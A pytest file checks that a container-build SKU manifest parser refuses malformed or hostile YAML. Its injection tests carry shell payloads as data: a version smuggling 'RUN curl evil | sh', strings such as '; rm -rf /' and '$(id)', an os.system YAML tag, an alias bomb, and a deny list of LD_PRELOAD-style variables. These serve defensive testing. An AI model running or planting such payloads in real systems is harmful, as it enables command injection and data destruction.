"""parse_manifest: every shipped SKU parses; every malformed manifest is refused with named problems."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
import yaml

from skupin.builder.catalog.manifest import SkuManifest, _problem, load_manifest, parse_manifest
from skupin.common.errors import ManifestError

ROOT = Path(__file__).resolve().parents[2]
SKUS = ROOT / "skus"
SHIPPED = sorted(SKUS.glob("*.yaml"))


def _field_path_bug() -> bool:
    """True while parse_manifest drops 'base'/'url' from field paths (it strips source tags anywhere)."""
    err = {"loc": ("base", "image"), "type": "value_error", "msg": "x", "input": "y"}
    return _problem("f", err).field != "base.image"


# Reported to the lead: builder/catalog/manifest.py:_problem removes every loc part named like a source
# kind ('base', 'url', 'index', ...), so base.image reads 'image' and source.url reads 'source'.
# These tests assert the right paths and run normally once that is fixed.
needs_field_fix = pytest.mark.xfail(_field_path_bug(), reason="manifest._problem strips 'base'/'url' from paths", strict=True)


def base_dict(sku: str = "nvidia-h200-vllm") -> dict[str, Any]:
    return yaml.safe_load((SKUS / f"{sku}.yaml").read_text())


def write(tmp_path: Path, data: dict[str, Any] | str, name: str | None = None) -> Path:
    if isinstance(data, dict):
        name = name or data.get("name", "x")
        text = yaml.safe_dump(data, sort_keys=False)
    else:
        text = data
    path = tmp_path / f"{name or 'x'}.yaml"
    path.write_text(text)
    return path


def put(data: dict[str, Any], dotted: str, value: Any) -> dict[str, Any]:
    """Set data[a][b][c] = value for dotted 'a.b.c' (creating nothing but the leaf)."""
    *parents, leaf = dotted.split(".")
    node = data
    for key in parents:
        node = node[key]
    node[leaf] = value
    return data


def problems_of(tmp_path: Path, data: dict[str, Any] | str, name: str | None = None):
    path = write(tmp_path, data, name)
    manifest, problems = parse_manifest(path)
    assert manifest is None, "an invalid manifest must not come back"
    assert problems
    return path, problems


# ---------------------------------------------------------------- shipped SKUs


def test_at_least_the_required_skus_ship():
    names = {p.stem for p in SHIPPED}
    assert {"cpu-x86_64", "nvidia-h100-vllm", "nvidia-h200-vllm", "amd-mi300x-vllm", "amd-mi355x-vllm",
            "nvidia-h200-sglang"} <= names
    assert any(n.startswith("intel-") for n in names)


@pytest.mark.parametrize("path", SHIPPED, ids=lambda p: p.stem)
def test_every_shipped_sku_parses(path):
    manifest, problems = parse_manifest(path)
    assert problems == []
    assert isinstance(manifest, SkuManifest) and manifest.name == path.stem
    for role, pin in manifest.stack.pins().items():
        assert pin.name and pin.version, role
        if pin.name == "none":
            assert pin.reason, role


@pytest.mark.parametrize("path", SHIPPED, ids=lambda p: p.stem)
def test_every_shipped_sku_has_a_header_comment(path):
    lines = path.read_text().splitlines()
    header = [line for line in lines[:12] if line.startswith("#") and "yaml-language-server" not in line]
    assert len(header) >= 2, "a short header says what the SKU is and where its versions come from"


def test_gpu_skus_have_the_runtime_they_need():
    for path in SHIPPED:
        m = load_manifest(path)
        if m.accelerator.vendor == "nvidia":
            assert m.runtime.gpus == "all" and m.stack.driver.name == "nvidia"
        if m.accelerator.vendor == "amd":
            assert {"/dev/kfd", "/dev/dri"} <= set(m.runtime.devices)
            assert {"video", "render"} <= set(m.runtime.group_add)
        if m.accelerator.vendor != "cpu":
            assert m.runtime.ipc == "host"
            # a vendor's base image by digest, or (NVIDIA only) the debootstrap base with the CUDA user space from the
            # locked nvidia-* wheels (skus/nvidia-h200-vllm-debian.yaml)
            assert m.base.image is not None or (m.base.bootstrap is not None and m.base.family == "cuda")


# ---------------------------------------------------------------- typos, types, missing


def test_typo_key_gets_did_you_mean(tmp_path):
    data = base_dict()
    data["stack"]["compiler"]["verison"] = data["stack"]["compiler"].pop("version")
    path, problems = problems_of(tmp_path, data)
    by_field = {p.field: p for p in problems}
    assert "stack.compiler.verison" in by_field
    assert by_field["stack.compiler.verison"].message == "unknown key"
    assert "did you mean 'version'" in by_field["stack.compiler.verison"].fix
    assert "stack.compiler.version" in by_field and "missing" in by_field["stack.compiler.version"].message
    assert all(p.file.endswith(path.name) for p in problems)


def test_top_level_typo(tmp_path):
    data = base_dict()
    data["runtme"] = data.pop("runtime")
    _, problems = problems_of(tmp_path, data)
    (p,) = [p for p in problems if p.field == "runtme"]
    assert "did you mean 'runtime'" in p.fix


@pytest.mark.parametrize(
    ("field", "value", "words"),
    [
        ("accelerator.count", "eight", "integer"),
        ("cost.hourly_usd", "cheap", "number"),
        ("gate.batch_size", [8], "integer"),
        ("runtime.gpus", "some", "all"),
        ("gate.dtype", "float8", "bfloat16"),
    ],
)
def test_wrong_type(tmp_path, field, value, words):
    _, problems = problems_of(tmp_path, put(base_dict(), field, value))
    (p,) = [p for p in problems if p.field == field]
    assert words in p.message


def test_name_must_equal_file_stem(tmp_path):
    data = base_dict()
    path = write(tmp_path, data, name="other-name")
    manifest, problems = parse_manifest(path)
    assert manifest is None
    (p,) = problems
    assert p.field == "name" and "other-name" in p.fix


# ---------------------------------------------------------------- injection


def test_value_with_newline(tmp_path):
    _, problems = problems_of(tmp_path, put(base_dict(), "stack.engine.version", "0.32.0\nRUN curl evil | sh"))
    assert any(p.field == "stack.engine.version" and "newline" in p.message for p in problems)


def test_env_value_with_newline(tmp_path):
    _, problems = problems_of(tmp_path, put(base_dict(), "runtime.env", {"A": "1\nRUN id"}))
    assert any(p.field == "runtime.env.A" for p in problems)


SHELL = ["; rm -rf /", "$(id)", "`id`", "&& id", "| sh", "${HOME}", "'quoted'", '"quoted"', "a\\b"]

INJECTABLE = [
    "stack.engine.version",
    "stack.framework.version",
    "stack.compiler.name",
    "stack.framework.variant",
    "name",
    "accelerator.device",
    "accelerator.arch",
    pytest.param("stack.framework.source.url", marks=needs_field_fix),
    pytest.param("base.image", marks=needs_field_fix),
    pytest.param("base.os", marks=needs_field_fix),
    "gate.reference",
    "gate.model",
]


@pytest.mark.parametrize("payload", SHELL, ids=range(len(SHELL)))
@pytest.mark.parametrize("field", INJECTABLE)
def test_shell_metacharacters_refused(tmp_path, field, payload):
    data = base_dict()
    old = data
    for key in field.split(".")[:-1]:
        old = old[key]
    value = f"{old[field.split('.')[-1]]}{payload}"
    put(data, field, value)
    path = write(tmp_path, data, name=data["name"] if field != "name" else "nvidia-h200-vllm")
    manifest, problems = parse_manifest(path)
    assert manifest is None
    assert any(p.field == field for p in problems), [str(p) for p in problems]


@pytest.mark.parametrize("payload", SHELL, ids=range(len(SHELL)))
def test_shell_metacharacters_in_env_value_refused(tmp_path, payload):
    _, problems = problems_of(tmp_path, put(base_dict(), "runtime.env", {"VLLM_LOGGING_LEVEL": f"INFO{payload}"}))
    assert any(p.field.startswith("runtime.env") for p in problems), [str(p) for p in problems]


@pytest.mark.parametrize("key", ["A;B", "$(id)", "1ABC", "A B"])
def test_bad_env_names_refused(tmp_path, key):
    _, problems = problems_of(tmp_path, put(base_dict(), "runtime.env", {key: "1"}))
    assert any(p.field.startswith("runtime.env") for p in problems), [str(p) for p in problems]


@pytest.mark.parametrize("ref", ["v0.25.1; rm -rf /", "$(id)", "-x", "`id`"])
def test_git_ref_refused(tmp_path, ref):
    data = base_dict("amd-mi300x-vllm")
    data["stack"]["engine"]["source"]["ref"] = ref
    _, problems = problems_of(tmp_path, data)
    assert any(p.field == "stack.engine.source.ref" for p in problems), [str(p) for p in problems]


# ---------------------------------------------------------------- base and pins


@needs_field_fix
def test_image_without_digest(tmp_path):
    data = put(base_dict(), "base.image", "docker.io/nvidia/cuda:13.0.2-runtime-ubuntu24.04")
    _, problems = problems_of(tmp_path, data)
    (p,) = [p for p in problems if p.field == "base.image"]
    assert "digest" in p.message


@needs_field_fix
def test_both_image_and_bootstrap(tmp_path):
    data = base_dict()
    data["base"]["bootstrap"] = {"tool": "debootstrap", "suite": "bookworm"}
    _, problems = problems_of(tmp_path, data)
    assert any(p.field == "base" and "exactly one" in p.message for p in problems)


@needs_field_fix
def test_neither_image_nor_bootstrap(tmp_path):
    data = base_dict()
    del data["base"]["image"]
    _, problems = problems_of(tmp_path, data)
    assert any(p.field == "base" and "exactly one" in p.message for p in problems)


def test_none_pin_without_reason(tmp_path):
    data = base_dict("cpu-x86_64")
    del data["stack"]["driver"]["reason"]
    _, problems = problems_of(tmp_path, data)
    (p,) = [p for p in problems if p.field == "stack.driver"]
    assert "reason" in p.message


def test_pin_with_version_none_but_a_name(tmp_path):
    _, problems = problems_of(tmp_path, put(base_dict(), "stack.engine.version", "none"))
    assert any(p.field == "stack.engine" and "exact version" in p.message for p in problems)


def test_missing_pin(tmp_path):
    data = base_dict()
    del data["stack"]["compiler"]
    _, problems = problems_of(tmp_path, data)
    assert [p.field for p in problems] == ["stack.compiler"]


# ---------------------------------------------------------------- every problem at once; YAML


@needs_field_fix
def test_three_errors_give_three_lines(tmp_path):
    data = base_dict()
    data["stack"]["engine"]["versoin"] = "1"  # typo
    data["accelerator"]["count"] = "eight"  # wrong type
    data["base"]["image"] = "ubuntu:24.04"  # no digest
    path, problems = problems_of(tmp_path, data)
    assert sorted(p.field for p in problems) == ["accelerator.count", "base.image", "stack.engine.versoin"]
    lines = [str(p) for p in problems]
    assert all(line.startswith(f"{problems[0].file}: ") for line in lines)
    assert len(set(lines)) == 3


def test_load_manifest_raises_with_every_problem(tmp_path):
    data = base_dict()
    data["accelerator"]["count"] = "eight"
    data["base"]["image"] = "ubuntu:24.04"
    path = write(tmp_path, data)
    with pytest.raises(ManifestError) as info:
        load_manifest(path)
    assert info.value.exit_code == 2
    assert len(info.value.lines()) == 2


def test_duplicate_yaml_keys_refused(tmp_path):
    text = (SKUS / "nvidia-h200-vllm.yaml").read_text().replace(
        "schema_version: 1\n", "schema_version: 1\nname: evil\n", 1
    )
    _, problems = problems_of(tmp_path, text, name="nvidia-h200-vllm")
    (p,) = problems
    assert p.field == "(yaml)" and "duplicate key 'name'" in p.message


def test_not_a_mapping(tmp_path):
    _, problems = problems_of(tmp_path, "- a\n- b\n")
    assert problems[0].field == "(top)"


def test_yaml_syntax_error(tmp_path):
    _, problems = problems_of(tmp_path, "name: [unclosed\n")
    assert problems[0].field == "(yaml)" and problems[0].fix


def test_yaml_tags_are_not_executed(tmp_path):
    _, problems = problems_of(tmp_path, "name: !!python/object/apply:os.system ['id']\n")
    assert problems[0].field == "(yaml)"


@pytest.mark.parametrize("omit, words", [
    ([{"name": "torch", "reason": "a reason long enough"}], "omit names torch, which is one of the four pins"),
    ([{"name": "torchvision", "reason": "a reason long enough"}, {"name": "TorchVision", "reason": "the same one twice"}],
     "omit names a distribution twice"),
    ([{"name": "torchvision", "reason": "short"}], "at least 10 characters"),
    ([{"name": "numpy", "reason": "a reason long enough"}], "stack.omit names numpy, which extras.python pins"),
])
def test_stack_omit_is_checked(tmp_path, omit, words):
    data = base_dict("cpu-x86_64")
    data["stack"]["omit"] = omit
    _, problems = problems_of(tmp_path, data)
    assert any(words in p.message for p in problems), [str(p) for p in problems]


def test_an_empty_omit_keeps_the_manifest_digest_and_a_real_one_changes_it(tmp_path):
    from skupin.builder.catalog.manifest import load_manifest, manifest_digest

    data = base_dict("cpu-x86_64")
    def digest(folder: str) -> str:
        (tmp_path / folder).mkdir()
        return manifest_digest(load_manifest(write(tmp_path / folder, data)))

    plain = digest("a")
    assert plain == manifest_digest(load_manifest(SKUS / "cpu-x86_64.yaml"))
    data["stack"]["omit"] = []
    assert digest("b") == plain
    data["stack"]["omit"] = [{"name": "torchvision", "reason": "not needed for text models"}]
    assert digest("c") != plain


def test_gate_weights_default_to_full_and_keep_every_digest(tmp_path):
    from skupin.builder.catalog.manifest import load_manifest, manifest_digest

    data = base_dict("cpu-x86_64")
    def digest(folder: str) -> str:
        (tmp_path / folder).mkdir()
        return manifest_digest(load_manifest(write(tmp_path / folder, data)))

    plain = digest("a")
    assert load_manifest(SKUS / "cpu-x86_64.yaml").gate.weights == "full"
    data["gate"]["weights"] = "full"
    assert digest("b") == plain  # unset and the default are the same manifest
    data["gate"]["weights"] = "q8_0"  # names the GGUF the image's CMD serves: a build input
    assert digest("c") != plain


def test_gate_weights_names_the_field_when_wrong(tmp_path):
    data = base_dict("cpu-x86_64")
    data["gate"]["weights"] = "q4_k"
    _, problems = problems_of(tmp_path, data)
    (p,) = problems
    assert p.field == "gate.weights" and "'full' or 'q8_0'" in p.message


def test_quantized_weights_need_an_engine_that_serves_them():
    from skupin.builder.catalog.compat import check_compat
    from skupin.builder.catalog.manifest import load_manifest

    m = load_manifest(SKUS / "cpu-x86_64.yaml")
    q8 = m.model_copy(update={"gate": m.gate.model_copy(update={"weights": "q8_0"})})
    problems = [p for p in check_compat(manifest=q8, file="skus/x.yaml") if p.field == "gate.weights"]
    assert [p.message for p in problems] == [
        "transformers serves the model folder at full precision only (gate.weights full, not 'q8_0')"]


def test_a_yaml_alias_bomb_is_refused_at_once_naming_the_line(tmp_path):
    import time

    # nine levels of nine aliases: a few hundred bytes that expand to 9^9 nodes if anything ever resolves them
    lines = ['a0: &a0 ["x","x","x","x","x","x","x","x","x"]']
    lines += [f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, 10)]
    start = time.monotonic()
    _, problems = problems_of(tmp_path, "\n".join(lines) + "\n")
    assert time.monotonic() - start < 1.0
    assert 1 <= len(problems) <= 5
    assert problems[0].field == "(yaml) line 1" and problems[0].message.startswith("&a0: manifests take no anchors")


def test_an_alias_inside_a_real_manifest_is_refused_too(tmp_path):
    text = (SKUS / "cpu-x86_64.yaml").read_text().replace("schema_version: 1\n", "schema_version: &v 1\n", 1)
    _, problems = problems_of(tmp_path, text, name="cpu-x86_64")
    assert [p.message.split(":")[0] for p in problems] == ["&v"]


def test_an_oversized_or_deeply_nested_manifest_is_one_problem(tmp_path):
    _, big = problems_of(tmp_path, "name: x\n" + "# padding\n" * 40_000)
    assert [(p.field, p.message) for p in big] == [("(file)", "larger than 256 KiB: not a manifest")]
    _, deep = problems_of(tmp_path, "a: " + "[" * 20_000 + "]" * 20_000 + "\n")
    assert len(deep) == 1 and deep[0].field == "(yaml)" and "\n" not in deep[0].message


# ---------------------------------------------------------------- runtime.env that steers loading (issue 30)


@pytest.mark.parametrize("name", ["PYTHONPATH", "PYTHONSTARTUP", "PYTHONWARNINGS", "PYTHONHOME", "LD_PRELOAD",
                                  "LD_LIBRARY_PATH", "LD_AUDIT", "HOME", "TRITON_CACHE_DIR", "TORCH_EXTENSIONS_DIR"])
def test_runtime_env_that_steers_what_code_loads_is_refused(tmp_path: Path, name: str) -> None:
    data = put(base_dict("cpu-x86_64"), "runtime.env", {"OMP_NUM_THREADS": "1", name: "/tmp/x.zip"})
    path, problems = problems_of(tmp_path, data, name="cpu-x86_64")
    (problem,) = problems
    assert problem.field == "runtime" and f"env {name}: steers what code the image loads" in problem.message
    assert "extras.python" in str(problem)


@pytest.mark.parametrize("name", ["PYTHONUNBUFFERED", "PYTHONHASHSEED", "OMP_NUM_THREADS", "VLLM_CPU_KVCACHE_SPACE"])
def test_runtime_env_that_only_tunes_is_kept(tmp_path: Path, name: str) -> None:
    data = put(base_dict("cpu-x86_64"), "runtime.env", {name: "1"})
    manifest, problems = parse_manifest(write(tmp_path, data, name="cpu-x86_64"))
    assert problems == [] and manifest is not None and manifest.runtime.env[name] == "1"
